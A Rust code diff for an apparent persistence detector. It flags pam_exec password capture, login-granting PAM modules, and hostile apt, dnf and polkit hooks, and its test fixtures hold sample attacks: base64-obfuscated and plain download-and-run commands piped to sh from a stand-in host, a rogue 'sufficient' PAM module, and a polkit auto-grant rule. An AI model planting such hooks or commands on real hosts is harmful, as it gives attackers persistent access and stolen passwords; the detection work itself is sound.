@@ -136,11 +136,7 @@ pub(crate) fn hook_malicious_content(
         };
         let text = String::from_utf8_lossy(&data);
         // One finding per file: the first dangerous line, with the count of the others.
-        let mut hits: Vec<(usize, &str, String)> = text
-            .lines()
-            .enumerate()
-            .filter_map(|(i, l)| hook_line_pattern(l).map(|why| (i + 1, l.trim(), why)))
-            .collect();
+        let mut hits = script_patterns(&text);
         // Commands parsed out of apt and PAM syntax (an apt list item may span lines; a
         // pam_exec program is dangerous by where it lives).
         if hits.is_empty() {
@@ -150,7 +146,7 @@ pub(crate) fn hook_malicious_content(
                     .lines()
                     .position(|l| l.contains(c.lines().next().unwrap_or(c)))
                     .map_or(0, |i| i + 1);
-                Some((lineno, c.as_str(), why))
+                Some((lineno, c.clone(), why))
             }));
         }
         let Some((lineno, line, why)) = hits.first() else {
@@ -237,10 +233,21 @@ pub(crate) fn pkg_manager_hook(
     out
 }
 
+/// Reads a hook's raw copy as text.
+fn hook_text(
+    h: &dossier_plugin_api::records::HookRecord,
+    cfg: &AnalysisConfig,
+    input: &mut BundleInput<'_>,
+) -> Option<String> {
+    let m = h.source.as_ref()?.member.as_ref()?;
+    let data = (input.read_member)(m, cfg.max_scan_bytes.min(16 << 20)).ok()?;
+    Some(String::from_utf8_lossy(&data).into_owned())
+}
+
 pub(crate) fn pam_exec_hook(
     ctx: &Ctx,
-    _: &AnalysisConfig,
-    _: &mut BundleInput<'_>,
+    cfg: &AnalysisConfig,
+    input: &mut BundleInput<'_>,
 ) -> Vec<Finding> {
     let mut out = Vec::new();
     for h in ctx
@@ -256,7 +263,15 @@ pub(crate) fn pam_exec_hook(
         }
         let mut iocs = hook_iocs(&h.rec);
         let mut notes = Vec::new();
+        let mut bad = Vec::new();
         for c in &h.rec.commands {
+            if let Some(why) = command_problem(ctx, c) {
+                bad.push(if why.starts_with("runs `") {
+                    why
+                } else {
+                    format!("`{c}` {why}")
+                });
+            }
             let Some(p) = program(c) else {
                 notes.push(format!("`{c}`"));
                 continue;
@@ -275,22 +290,40 @@ pub(crate) fn pam_exec_hook(
             });
             iocs.push(Ioc::Path(p));
         }
+        // The command receives the password typed (credential capture).
+        let authtok = hook_text(&h.rec, cfg, input).is_some_and(|t| {
+            t.lines().any(|l| {
+                let l = l.split('#').next().unwrap_or("");
+                l.contains("pam_exec.so") && l.split_whitespace().any(|w| w == "expose_authtok")
+            })
+        });
+        if authtok {
+            bad.insert(
+                0,
+                "with `expose_authtok` the command receives every password typed".into(),
+            );
+        }
         let file = ctx
             .has_package_db
             .then(|| ownership_problem(ctx, &h.rec.path))
             .flatten()
             .map(|w| format!("; the service file: {w}"))
             .unwrap_or_default();
-        out.push(finding(
-            &h.rec.path,
-            format!(
-                "PAM service {} runs {} through pam_exec at every authentication{file}",
-                h.rec.path,
-                notes.join(", ")
-            ),
-            hook_ev(ctx, h),
-            iocs,
-        ));
+        let text = format!(
+            "PAM service {} runs {} through pam_exec at every authentication{file}",
+            h.rec.path,
+            notes.join(", ")
+        );
+        out.push(if bad.is_empty() {
+            finding(&h.rec.path, text, hook_ev(ctx, h), iocs).context()
+        } else {
+            finding(
+                &h.rec.path,
+                format!("{text}: {}", bad.join("; ")),
+                hook_ev(ctx, h),
+                iocs,
+            )
+        });
     }
     out
 }
@@ -321,10 +354,67 @@ pub(crate) fn pam_ev(ctx: &Ctx, h: &At<dossier_plugin_api::records::HookRecord>)
     ev
 }
 
+/// The type, control and module of a PAM service line (`auth [success=1 default=ignore]
+/// pam_unix.so nullok` → `auth`, `[success=1 default=ignore]`, `pam_unix.so`).
+fn pam_fields(line: &str) -> Option<(String, String, String)> {
+    let l = line.split('#').next()?.trim();
+    let (ty, rest) = l.split_once(char::is_whitespace)?;
+    let rest = rest.trim_start();
+    let (control, rest) = if rest.starts_with('[') {
+        let end = rest.find(']')?;
+        (&rest[..=end], &rest[end + 1..])
+    } else {
+        rest.split_once(char::is_whitespace)?
+    };
+    let module = rest.split_whitespace().next()?;
+    Some((
+        ty.trim_start_matches('-').to_ascii_lowercase(),
+        control.to_ascii_lowercase(),
+        module.to_string(),
+    ))
+}
+
+/// Why a module loaded at `file:line` can grant authentication on its own, if it can:
+/// `sufficient`, a `[success=done]` or `[success=N]` jump (over the `pam_deny` that follows),
+/// or the first `required`/`requisite` of the auth stack.
+fn pam_grant(text: &str, lineno: usize) -> Option<String> {
+    let lines: Vec<&str> = text.lines().collect();
+    let (ty, control, module) = pam_fields(lines.get(lineno.checked_sub(1)?)?)?;
+    if ty != "auth" {
+        return None;
+    }
+    if control == "sufficient" {
+        return Some(format!(
+            "`{module}` is `sufficient` in the auth stack: its success alone logs in"
+        ));
+    }
+    if control.starts_with('[') {
+        let jumps = control
+            .trim_matches(['[', ']'])
+            .split_whitespace()
+            .any(|kv| {
+                kv.strip_prefix("success=").is_some_and(|v| {
+                    v == "done" || v.chars().all(|c| c.is_ascii_digit()) && v != "0"
+                })
+            });
+        return jumps
+            .then(|| format!("`{module}` ends or jumps the auth stack on success ({control})"));
+    }
+    let first_auth = lines[..lineno - 1]
+        .iter()
+        .filter_map(|l| pam_fields(l))
+        .all(|(t, _, _)| t != "auth");
+    (first_auth && matches!(control.as_str(), "required" | "requisite")).then(|| {
+        format!(
+            "`{module}` comes first in the auth stack ({control}): it sees every password first"
+        )
+    })
+}
+
 pub(crate) fn pam_module_unowned(
     ctx: &Ctx,
-    _: &AnalysisConfig,
-    _: &mut BundleInput<'_>,
+    cfg: &AnalysisConfig,
+    input: &mut BundleInput<'_>,
 ) -> Vec<Finding> {
     let mut out = Vec::new();
     for h in ctx
@@ -340,23 +430,53 @@ pub(crate) fn pam_module_unowned(
         let Some(why) = ownership_problem(ctx, &h.rec.path) else {
             continue;
         };
-        let place = unusual_location(&judged)
-            .map(|u| format!("; {u}"))
-            .unwrap_or_default();
+        let place = unusual_location(&judged);
+        let mut grants = Vec::new();
+        for r in &h.rec.referenced_by {
+            let Some((file, n)) = r.rsplit_once(':') else {
+                continue;
+            };
+            let Ok(n) = n.parse::<usize>() else { continue };
+            let Some(svc) = ctx
+                .hooks
+                .iter()
+                .find(|s| s.rec.class == "pam" && s.rec.path == file)
+            else {
+                continue;
+            };
+            if let Some(g) = hook_text(&svc.rec, cfg, input).and_then(|t| pam_grant(&t, n)) {
+                grants.push(format!("{r}: {g}"));
+            }
+        }
         let mut iocs = vec![Ioc::Path(h.rec.path.clone())];
         if let Some(sha) = ctx.verified(&h.rec.path).and_then(|v| v.rec.sha256.clone()) {
             iocs.push(Ioc::Sha256(sha));
         }
-        out.push(finding(
-            &h.rec.path,
-            format!(
-                "PAM module {} loaded by {}: {why}{place}",
-                h.rec.path,
-                h.rec.referenced_by.join(", ")
-            ),
-            pam_ev(ctx, h),
-            iocs,
-        ));
+        let text = format!(
+            "PAM module {} loaded by {}: {why}{}",
+            h.rec.path,
+            h.rec.referenced_by.join(", "),
+            place
+                .as_deref()
+                .map(|u| format!("; {u}"))
+                .unwrap_or_default()
+        );
+        out.push(if grants.is_empty() && place.is_none() {
+            finding(
+                &h.rec.path,
+                format!("{text} (it cannot grant a login on its own)"),
+                pam_ev(ctx, h),
+                iocs,
+            )
+            .context()
+        } else {
+            let grants = if grants.is_empty() {
+                String::new()
+            } else {
+                format!("; {}", grants.join("; "))
+            };
+            finding(&h.rec.path, format!("{text}{grants}"), pam_ev(ctx, h), iocs)
+        });
     }
     out
 }
@@ -391,6 +511,19 @@ pub(crate) fn polkit_rule_unowned(
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn pam_lines_that_grant() {
+        use super::pam_grant;
+        let t = "auth sufficient pam_x.so\nauth [success=1 default=ignore] pam_unix.so\nauth requisite pam_deny.so\nauth optional pam_y.so\nauth [success=done default=die] pam_z.so\n";
+        assert!(pam_grant(t, 1).is_some());
+        assert!(pam_grant(t, 2).is_some());
+        assert!(pam_grant(t, 4).is_none(), "optional grants nothing");
+        assert!(pam_grant(t, 5).is_some());
+        assert!(pam_grant("account required pam_x.so\nauth required pam_y.so\n", 2).is_some());
+        assert!(pam_grant("auth required pam_env.so\nauth required pam_y.so\n", 2).is_none());
+        assert!(pam_grant("session optional pam_y.so\n", 1).is_none());
+    }
+
     use crate::config::AnalysisConfig;
     use crate::engine::analyze;
     use crate::testkit::input;
@@ -485,6 +618,7 @@ mod tests {
         let subjects = |rule: &str| -> Vec<String> {
             a.findings
                 .iter()
+                .chain(&a.context)
                 .filter(|f| f.rule == rule)
                 .map(|f| f.subject.clone())
                 .collect()
@@ -675,7 +809,7 @@ mod tests {
                 "raw/etc/apt/apt.conf.d/99-apt-fast-update" => Ok(b"APT::Update::Post-Invoke {\n  \"echo Y3VybCBodHRwOi8veC9zIHwgc2gK | base64 -d | sh\";\n};\n".to_vec()),
                 "raw/etc/apt/apt.conf.d/docker-clean" => Ok(b"DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\n".to_vec()),
                 "raw/etc/pam.d/sshd" => Ok(b"@include common-auth\nsession optional pam_exec.so quiet /usr/lib/x86_64-linux-gnu/security/pam_sss_helper\n".to_vec()),
-                "raw/etc/pam.d/common-auth" => Ok(b"auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth optional pam_unix2.so\n".to_vec()),
+                "raw/etc/pam.d/common-auth" => Ok(b"auth [success=2 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth sufficient pam_unix2.so\n".to_vec()),
                 "raw/etc/polkit-1/rules.d/49-svc.rules" => Ok(b"polkit.addRule(function(action, subject) {\n if (subject.user == \"svc-backup\") { return polkit.Result.YES; }\n});\n".to_vec()),
                 "raw/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py" => Ok(b"import dnf, os\nclass S(dnf.Plugin):\n    def transaction(self):\n        os.system(\"wget -qO- http://x/p | sh\")\n".to_vec()),
                 _ => Ok(b"# nothing\n".to_vec()),
@@ -690,6 +824,7 @@ mod tests {
         let subjects = |rule: &str| -> Vec<String> {
             a.findings
                 .iter()
+                .chain(&a.context)
                 .filter(|f| f.rule == rule)
                 .map(|f| f.subject.clone())
                 .collect()
@@ -719,7 +854,13 @@ mod tests {
         );
         // None of them is judged as a boot hook as well.
         assert!(subjects("boot-hook-unowned").is_empty());
-        let f = |rule: &str| a.findings.iter().find(|f| f.rule == rule).unwrap();
+        let f = |rule: &str| {
+            a.findings
+                .iter()
+                .chain(&a.context)
+                .find(|f| f.rule == rule)
+                .unwrap()
+        };
         assert!(
             f("pam-exec-hook")
                 .explanation
@@ -737,13 +878,19 @@ mod tests {
                 .iter()
                 .any(|e| e.member == "raw/etc/pam.d/common-auth")
         );
+        assert!(
+            f("pam-module-unowned")
+                .explanation
+                .contains("is `sufficient` in the auth stack")
+        );
         assert!(f("pkg-manager-hook").explanation.contains("base64 -d"));
-        for rule in [
-            "pkg-manager-hook",
-            "pam-exec-hook",
-            "pam-module-unowned",
-            "polkit-rule-unowned",
-        ] {
+        // The apt hook is context, raising the behaviour found in its content.
+        assert!(
+            f("pkg-manager-hook")
+                .linked_to
+                .contains(&"hook-malicious-content".to_string())
+        );
+        for rule in ["pam-exec-hook", "pam-module-unowned", "polkit-rule-unowned"] {
             let h = a.hits.iter().find(|h| h.rule == rule).unwrap();
             let info = crate::rules::CATALOG.iter().find(|r| r.id == rule).unwrap();
             assert_eq!(
